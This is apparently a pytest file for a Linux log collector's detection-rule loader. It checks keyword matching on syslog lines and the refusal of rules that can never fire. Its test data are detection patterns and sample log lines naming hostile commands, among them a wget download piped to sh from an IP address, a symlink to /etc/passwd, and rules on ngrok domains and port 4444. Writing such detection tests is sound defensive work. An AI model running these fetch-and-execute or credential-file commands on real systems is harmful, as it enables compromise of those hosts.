"""Issue 15 item 3: keyword rules read the raw log line, auditd rules and rules that can
never fire are refused with their own reason, never loaded silently."""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml

from collector.detect.engine import Engine
from collector.detect.loader import build_rule, load_rules
from collector.detect.model import RuleError


def _rule(logsource: dict[str, Any], detection: dict[str, Any]) -> dict[str, Any]:
    return {"title": "t", "id": str(uuid.uuid4()), "level": "high",
            "logsource": logsource, "detection": detection}


KEYWORDS = _rule({"product": "linux"}, {
    "keywords": ["wget * - http* | sh", "ln -s /etc/passwd"], "condition": "keywords"})


def _auth_line(dataset: str, line: str, **extra: Any) -> dict[str, Any]:
    return {"event": {"dataset": dataset, "original": line, "id": "e1"},
            "host": {"hostname": "h1"}, **extra}


def test_keyword_rule_reads_the_syslog_line_of_auth_iam_and_raw_events() -> None:
    rule = build_rule(KEYWORDS)
    assert rule.datasets == ("auth", "iam", "raw")
    engine = Engine([rule])
    sudo = ("Dec  2 07:40:01 h1 sudo:    admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; "
            "COMMAND=/usr/bin/wget -q - http://203.0.113.5/x | sh")
    assert len(engine.process([_auth_line("auth", sudo)])) == 1
    # A raw event: the message alone is enough; case does not matter.
    raw = {"event": {"dataset": "raw", "id": "e2"}, "message": "LN -S /ETC/PASSWD /tmp/p",
           "host": {"hostname": "h2"}}
    assert len(engine.process([raw])) == 1
    # Wildcards inside a keyword do not anchor it: it is still searched anywhere.
    assert len(engine.process([_auth_line("iam", "x wget a - httpb | sh y",
                                          host={"hostname": "h3"})])) == 1
    assert engine.process([_auth_line("auth", "Accepted password for admin",
                                      host={"hostname": "h4"})]) == []
    # Other datasets never meet the rule.
    assert engine.process([{"event": {"dataset": "process"},
                            "message": "ln -s /etc/passwd x"}]) == []


def test_auditd_rules_are_refused_as_no_auditd_telemetry() -> None:
    with pytest.raises(RuleError) as err:
        build_rule(_rule({"product": "linux", "service": "auditd"},
                         {"sel": {"type": "EXECVE", "a0": "chattr"}, "condition": "sel"}))
    assert err.value.reason == "no_auditd_telemetry"
    assert err.value.problem.startswith("no auditd telemetry")


def test_a_log_we_do_not_collect_is_named() -> None:
    with pytest.raises(RuleError) as err:
        build_rule(_rule({"product": "linux", "service": "vsftpd"},
                         {"keywords": ["Bad HTTP verb."], "condition": "keywords"}))
    assert err.value.reason is None and err.value.path == "logsource"
    assert "canhgac collects no 'vsftpd' log" in err.value.problem


@pytest.mark.parametrize(("logsource", "detection", "missing"), [
    # File integrity events name no process: a file rule that needs the writer's Image.
    ({"category": "file_event", "product": "linux"},
     {"sel": {"Image|endswith": "/wget", "TargetFilename|startswith": "/tmp/"},  # noqa: S108
      "condition": "sel"}, "process.executable"),
    # Socket events carry outbound addresses and ports, never a destination name.
    ({"category": "network_connection", "product": "linux"},
     {"sel": {"DestinationHostname|endswith": ".ngrok.io"}, "condition": "sel"},
     "destination.domain"),
])
def test_a_rule_that_can_never_fire_is_refused(logsource: dict[str, Any],
                                               detection: dict[str, Any], missing: str) -> None:
    with pytest.raises(RuleError) as err:
        build_rule(_rule(logsource, detection))
    assert err.value.reason == "never_fires"
    assert missing in err.value.problem


@pytest.mark.parametrize("detection", [
    # The absent field is only in a filter: the rule fires on the path alone.
    {"sel": {"TargetFilename|startswith": "/etc/sudoers.d/"},
     "filter": {"Image|endswith": "/usr/bin/dpkg"}, "condition": "sel and not filter"},
    # null matches an absent field; one branch of an OR is enough.
    {"sel": {"Image": None, "TargetFilename|endswith": ".so"}, "condition": "sel"},
    {"a": {"Image|endswith": "/wget"}, "b": {"TargetFilename|endswith": ".sh"},
     "condition": "a or b"},
])
def test_rules_that_can_fire_still_load(detection: dict[str, Any]) -> None:
    rule = build_rule(_rule({"category": "file_event", "product": "linux"}, detection))
    assert rule.datasets == ("file",)


def test_refusals_are_counted_by_their_reason(tmp_path: Path) -> None:
    rules = {
        "audit.yml": _rule({"product": "linux", "service": "auditd"},
                           {"sel": {"type": "PATH"}, "condition": "sel"}),
        "never.yml": _rule({"category": "network_connection", "product": "linux"},
                           {"sel": {"DestinationHostname": "pool.example"}, "condition": "sel"}),
        "kw.yml": KEYWORDS,
    }
    for name, doc in rules.items():
        (tmp_path / name).write_text(yaml.safe_dump(doc), encoding="utf-8")
    result = load_rules([(tmp_path, "t")])
    assert len(result.loaded) == 1
    counts = result.refused_by_reason()
    assert counts["no_auditd_telemetry"] == 1 and counts["never_fires"] == 1


def test_network_connection_rules_on_addresses_load() -> None:
    """The socket probe reports outbound connections (destination.ip/port): a rule on them
    can fire (it was refused as never_fires while sockets were listening ones only)."""
    rule = build_rule(_rule({"category": "network_connection", "product": "linux"},
                            {"a": {"DestinationPort": 4444},
                             "b": {"DestinationIp|cidr": "10.0.0.0/8"}, "condition": "a or b"}))
    assert rule.datasets == ("socket",)
